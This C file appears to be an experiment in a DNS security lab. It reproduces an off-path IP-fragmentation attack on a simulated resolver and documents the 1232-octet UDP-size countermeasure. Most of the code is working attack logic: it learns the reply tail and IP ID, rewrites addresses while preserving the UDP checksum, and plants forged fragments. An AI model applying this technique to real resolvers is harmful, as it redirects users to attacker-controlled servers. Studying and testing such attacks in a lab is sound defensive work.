/* fragment: an off-path attacker forges the second half of a reply (Herzberg and Shulman,
 * 2013).
 *
 * A reply larger than the MTU travels in fragments.  All that the attacker cannot know is in
 * the first one: port, ID, the letters of the question.  The second has records only, and
 * belongs to the first if sender, receiver and a 16-bit number, the IP ID, agree.  So the
 * attacker puts a forged second fragment into the receiver's memory before the reply is sent,
 * and waits: the receiver joins it to the true first one.
 *
 * The attacker knows the tail of the reply, because it can ask the server itself, and changes
 * the addresses in it.  The UDP checksum covers both parts; so what the new addresses add to
 * the sum is taken away elsewhere, from a TTL.
 *
 * The IP ID must be guessed.  The server of museum.com is an old one, which counts its packets:
 * a query of the attacker shows where it is.  Linux today counts per pair of addresses, from a
 * random start, and lets at most 64 fragments of a sender wait for one datagram
 * (net.ipv4.ipfrag_max_dist): there an attacker needs a thousand tries. */
#include <poll.h>
#include <unistd.h>

#include "base/now.h"
#include "dns/query.h"
#include "tools/lab/experiment.h"

enum {
    MTU = 1500,
    SERVERS = 13, /* of gallery.museum.com: the names fill the first fragment */
    GUESSES = 12, /* fragments that wait: the resolver's kernel has 4 MiB for all, for 30 s */
    HONEST_SIZE = 4096,
    FRAGMENT_MS = 8000,
    SERVE_MS = 5,
    IP4_MORE = 0x2000, /* "more fragments" (RFC 791 3.1) */
};

/* Lifetime: the run. */
struct fragment {
    struct trial *t;
    int museum, museum_tcp, gallery; /* the servers' sockets */
    int wire;                        /* from which the museum sends fragments */
    uint16_t ip_id;                  /* of the museum's next packet */
    unsigned fragmented, truncated, over_tcp;
    /* what the attacker has learned */
    uint8_t tail[MTU];
    size_t tail_len;
    uint16_t seen_id;
};

/* ---- the honest servers ---- */

/* The museum refers to the servers of gallery.museum.com. */
static void refer_to_gallery(const struct message *query, struct trial_message *m)
{
    char name[96];

    trial_begin(m, query->id, MESSAGE_QR, message_qname(query), query->qtype);
    for (int section = MESSAGE_AUTHORITY; section <= MESSAGE_ADDITIONAL; section++)
        for (int i = 0; i < SERVERS; i++) {
            snprintf(name, sizeof(name), "ns-%02d-%054d.gallery.museum.com", i, 0);
            if (section == MESSAGE_AUTHORITY)
                trial_record_name(m, MESSAGE_AUTHORITY, "gallery.museum.com", RRTYPE_NS, 86400,
                                  name);
            else
                trial_record_a(m, MESSAGE_ADDITIONAL, name, 86400, "198.51.100.41");
        }
}

static void write_museum_reply(const struct message *query, struct trial_message *m)
{
    uint8_t gallery[DNAME_MAX];

    trial_name("gallery.museum.com", gallery);
    if (dname_is_under(message_qname(query), gallery)) {
        refer_to_gallery(query, m);
        return;
    }
    trial_begin(m, query->id, MESSAGE_QR | MESSAGE_AA, message_qname(query), query->qtype);
    if (query->qtype == RRTYPE_A)
        trial_record_a(m, MESSAGE_ANSWER, "museum.com", 60, "198.51.100.21");
}

/* Make a fragment of a packet: `len` octets of what is inside, from `offset` on. */
static void cut_fragment(const struct packet *whole, size_t offset, size_t len,
                         struct packet *out)
{
    const bool is_last = PACKET_IP4_LEN + offset + len == whole->len;

    out->from = whole->from;
    out->to = whole->to;
    memcpy(out->octets, whole->octets, PACKET_IP4_LEN);
    util_put_u16(out->octets + 6, (uint16_t)(offset / 8 | (is_last ? 0 : IP4_MORE)));
    memcpy(out->octets + PACKET_IP4_LEN, whole->octets + PACKET_IP4_LEN + offset, len);
    out->len = PACKET_IP4_LEN + len; /* the kernel fills in the length and the checksum */
}

/* Send a packet as an old machine does: with the next ID, in fragments if it is too large. */
static void send_from_museum(struct fragment *f, struct packet *whole)
{
    static struct packet part;
    const size_t room = MTU - PACKET_IP4_LEN;

    whole->id = f->ip_id ? f->ip_id : ++f->ip_id; /* 0: the kernel would choose one */
    f->ip_id++;
    packet_make(whole);
    for (size_t at = 0; PACKET_IP4_LEN + at < whole->len; at += room) {
        cut_fragment(whole, at, util_min(room, whole->len - PACKET_IP4_LEN - at), &part);
        (void)sendto(f->wire, part.octets, part.len, 0, &part.to.sock.any, addr_len(&part.to));
    }
    f->fragmented += whole->len > MTU;
}

static void serve_museum(struct fragment *f)
{
    static struct trial_message m;
    static struct packet p;
    static uint8_t wire[MESSAGE_MAX];
    struct message query;
    struct addr from;
    socklen_t from_len = sizeof(from.sock);
    ssize_t len = recvfrom(f->museum, wire, sizeof(wire), 0, &from.sock.any, &from_len);

    if (len <= 0 || message_parse(wire, (size_t)len, &query) != MESSAGE_WHOLE ||
        query.flags & MESSAGE_QR || !query.has_question)
        return;
    write_museum_reply(&query, &m);
    if (m.len > (query.has_edns ? query.edns.udp_size : 512)) {
        trial_begin(&m, query.id, MESSAGE_QR | MESSAGE_TC, message_qname(&query), query.qtype);
        f->truncated++;
    }
    p.from = trial_second("shop", 53);
    p.to = from;
    p.payload = m.wire;
    p.payload_len = m.len;
    send_from_museum(f, &p);
}

static void serve_museum_tcp(struct fragment *f)
{
    static struct trial_message m;
    static uint8_t wire[2 + MESSAGE_MAX];
    struct message query;
    int fd = accept(f->museum_tcp, NULL, NULL);

    if (fd < 0)
        return;
    ssize_t len = trial_wait(fd, FRAGMENT_MS) ? recv(fd, wire, sizeof(wire), 0) : 0;
    if (len > 2 && message_parse(wire + 2, (size_t)len - 2, &query) == MESSAGE_WHOLE &&
        query.has_question) {
        write_museum_reply(&query, &m);
        util_put_u16(wire, (uint16_t)m.len);
        memcpy(wire + 2, m.wire, m.len);
        (void)!send(fd, wire, 2 + m.len, MSG_NOSIGNAL);
        f->over_tcp++;
    }
    close(fd);
}

static void answer_for_gallery(struct trial *t, const struct message *query,
                               struct trial_message *reply)
{
    (void)t;
    if (query->qtype == RRTYPE_A)
        trial_record_a(reply, MESSAGE_ANSWER, "gallery.museum.com", 60, "198.51.100.41");
}

/* The attacker's own server, to which the forged addresses lead. */
static void answer_for_attacker(struct trial *t, const struct message *query,
                                struct trial_message *reply)
{
    (void)t;
    if (query->qtype == RRTYPE_A)
        trial_record_a(reply, MESSAGE_ANSWER, "gallery.museum.com", 86400, "192.0.2.66");
}

/* Let all servers answer until `client` is readable. */
static void serve_all(struct fragment *f, int attacker, int client)
{
    const uint64_t end_ms = now_mono_ms() + FRAGMENT_MS;

    while (now_mono_ms() < end_ms) {
        struct pollfd polled[] = {{.fd = f->museum, .events = POLLIN},
                                  {.fd = f->museum_tcp, .events = POLLIN},
                                  {.fd = f->gallery, .events = POLLIN},
                                  {.fd = attacker, .events = POLLIN},
                                  {.fd = client, .events = POLLIN}};
        if (poll(polled, ARRAY_LEN(polled), FRAGMENT_MS) <= 0 || polled[4].revents)
            return;
        if (polled[0].revents)
            serve_museum(f);
        if (polled[1].revents)
            serve_museum_tcp(f);
        if (polled[2].revents)
            (void)trial_serve(f->t, f->gallery, client, SERVE_MS, answer_for_gallery);
        if (polled[3].revents)
            (void)trial_serve(f->t, attacker, client, SERVE_MS, answer_for_attacker);
    }
}

/* ---- the attacker ---- */

/* Ask the museum for the reply that the resolver will get, and keep its tail. */
static void learn_tail(struct fragment *f)
{
    static uint8_t reply[MESSAGE_MAX];
    const struct addr museum = trial_second("shop", 53), any = trial_addr("attacker", 0);
    uint8_t name[DNAME_MAX], wire[QUERY_MAX];
    int fd = trial_open(f->t, "attacker", &any, SOCK_DGRAM);

    trial_name("gallery.museum.com", name);
    const struct query query = {
        .name = name, .type = RRTYPE_A, .has_edns = true, .udp_size = HONEST_SIZE};
    (void)!sendto(fd, wire, query_write(&query, wire), 0, &museum.sock.any, addr_len(&museum));
    serve_all(f, -1, fd);
    const ssize_t len = recv(fd, reply, sizeof(reply), MSG_DONTWAIT);
    const size_t first =
        MTU - PACKET_IP4_LEN - PACKET_UDP_LEN; /* octets in the first fragment */
    close(fd);
    if (len <= (ssize_t)first || (size_t)len - first > sizeof(f->tail))
        return;
    f->tail_len = (size_t)len - first;
    memcpy(f->tail, reply + first, f->tail_len);
}

/* Ask the museum for anything, and read the ID in the header of its reply. */
static void learn_ip_id(struct fragment *f)
{
    const struct addr museum = trial_second("shop", 53);
    int ear = trial_open_ear(f->t, "attacker");
    int fd = trial_query(f->t, "attacker", &museum, "museum.com", RRTYPE_A, false);
    struct packet_view heard;

    serve_all(f, -1, fd);
    while (trial_hear(ear, FRAGMENT_MS, &heard))
        if (addr_is_equal(&heard.from, &museum)) {
            f->seen_id = heard.ip_id;
            break;
        }
    close(fd);
    close(ear);
}

static uint32_t add_words(const uint8_t *octets, size_t len)
{
    uint32_t total = 0;

    for (size_t i = 0; i < len; i++)
        total += i % 2 ? octets[i] : (uint32_t)octets[i] << 8;
    while (total >> 16)
        total = (total & 0xffff) + (total >> 16);
    return total;
}

/* Replace each address in the tail, and give the last TTL the value that keeps the checksum. */
static void forge_tail(struct fragment *f)
{
    static const uint8_t from[] = {198, 51, 100, 41}, to[] = {192, 0, 2, 67};
    const uint32_t before = add_words(f->tail, f->tail_len);
    size_t last = 0;

    for (size_t i = 0; i + sizeof(from) <= f->tail_len; i++)
        if (memcmp(f->tail + i, from, sizeof(from)) == 0) {
            memcpy(f->tail + i, to, sizeof(to));
            last = i;
        }
    uint8_t *ttl = f->tail + last - 6;    /* 4 octets, then 2 of the length */
    uint8_t *word = ttl + (last - 6) % 2; /* sums are made of words at even places */
    util_put_u16(word, 0);
    const uint32_t now = add_words(f->tail, f->tail_len);
    util_put_u16(word, (uint16_t)((before + 0xffff - now) % 0xffff));
}

/* Put the forged fragment into the resolver's memory, with the next IDs of the museum. */
static void plant_fragments(struct fragment *f)
{
    static struct packet whole, part;
    static uint8_t payload[2 * MTU];
    const size_t first = MTU - PACKET_IP4_LEN - PACKET_UDP_LEN;
    int forger = trial_open_forger(f->t, "attacker");

    memcpy(payload + first, f->tail, f->tail_len);
    whole.from = trial_second("shop", 53);
    whole.to = trial_addr("resolver", 0);
    whole.payload = payload; /* the first part is never sent */
    whole.payload_len = first + f->tail_len;
    for (unsigned i = 1; i <= GUESSES; i++) {
        whole.id = (uint16_t)(f->seen_id + i);
        packet_make(&whole);
        cut_fragment(&whole, MTU - PACKET_IP4_LEN, f->tail_len, &part);
        trial_forge(f->t, forger, &part);
    }
    close(forger);
}

/* ---- the run ---- */

static void run_fragment(struct trial *t)
{
    const struct addr museum = trial_second("shop", 53), gallery = trial_second("example", 53),
                      evil = trial_second("attacker", 53);
    struct fragment f = {.t = t,
                         .museum = trial_open(t, "shop", &museum, SOCK_DGRAM),
                         .museum_tcp = trial_open(t, "shop", &museum, SOCK_STREAM),
                         .gallery = trial_open(t, "example", &gallery, SOCK_DGRAM),
                         .wire = trial_open_forger(t, "shop"),
                         /* one packet per millisecond so far: other IDs than in the last
                            run, whose fragments the resolver keeps for 30 s */
                         .ip_id = (uint16_t)now_mono_ms()};
    int attacker = trial_open(t, "attacker", &evil, SOCK_DGRAM);

    learn_tail(&f);
    learn_ip_id(&f);
    f.fragmented = 0;
    if (f.tail_len > 0) {
        forge_tail(&f);
        plant_fragments(&f);
    }
    trial_tell(t, "learned %zu octets of the reply, and IP ID %u; planted %u fragments",
               f.tail_len, f.seen_id, GUESSES);
    int client = trial_ask_begin(t, "alice", "gallery.museum.com", RRTYPE_A);
    serve_all(&f, attacker, client);
    struct trial_reply reply = trial_ask_end(client, FRAGMENT_MS);

    close(attacker);
    close(f.museum);
    close(f.museum_tcp);
    close(f.gallery);
    close(f.wire);
    trial_number(t, "ip-id-seen", f.seen_id);
    trial_number(t, "ip-ids-guessed", GUESSES);
    trial_number(t, "octets-forged", (int64_t)f.tail_len);
    trial_number(t, "replies-in-fragments", f.fragmented);
    trial_number(t, "replies-truncated", f.truncated);
    trial_number(t, "replies-over-tcp", f.over_tcp);
    trial_text(t, "alice-got", "%s", *reply.address ? reply.address : "no address");
    if (strcmp(reply.address, "192.0.2.66") == 0)
        trial_end(t, true, "all servers of gallery.museum.com are the attacker's now");
    else
        trial_end(t, false, "alice got %s for gallery.museum.com",
                  *reply.address ? reply.address : "no address");
}

const struct experiment experiment_fragment = {
    .name = "fragment",
    .what = "an off-path attacker replaces the second fragment of a large reply",
    .without = "udp-size",
    .stopped =
        "udp-size: the resolver asks for at most 1232 octets over UDP, which travel in one "
        "piece; a larger reply is truncated, and comes over TCP.  Random ports, IDs and "
        "letters do not help, because they are all in the first fragment",
    .counters = {"queries-sent-tcp"},
    .run = run_fragment,
};
